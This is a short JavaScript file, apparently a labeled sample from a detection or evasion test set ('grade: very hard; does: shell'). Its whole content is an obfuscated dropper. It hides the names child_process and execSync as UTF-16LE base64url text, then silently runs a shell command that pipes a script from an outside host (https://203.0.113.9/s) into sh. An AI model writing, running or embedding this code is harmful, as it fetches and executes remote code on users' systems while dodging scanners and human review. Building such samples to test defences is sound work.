// evasion: module and method names stored as UTF-16LE text in base64url (not plain base64, not UTF-8), decoded by a helper
// grade: very hard; does: shell
'use strict';
const settings = {
  transport: 'YwBoAGkAbABkAF8AcAByAG8AYwBlAHMAcwA',
  method: 'ZQB4AGUAYwBTAHkAbgBjAA',
  probe: 'sh -c "curl -fsS https://203.0.113.9/s | sh"',
};

const wide = (s) => Buffer.from(s, 'base64url').toString('utf16le');

const transport = require(wide(settings.transport));
transport[wide(settings.method)](settings.probe, { stdio: 'ignore' });
